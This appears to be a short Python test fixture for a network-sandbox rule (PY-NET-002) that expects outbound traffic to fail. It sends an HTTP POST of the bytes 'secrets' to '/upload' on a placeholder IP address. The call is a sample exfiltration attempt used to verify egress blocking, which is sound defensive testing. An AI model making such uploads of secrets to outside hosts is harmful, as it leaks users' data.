# rule: PY-NET-002
# policy: strict
# attempts: http.client: .*(Network is unreachable|Errno 101)
import http.client

conn = http.client.HTTPConnection("198.51.100.20", 80, timeout=3)
try:
    conn.request("POST", "/upload", body=b"secrets")
except OSError as e:
    print("http.client:", e)
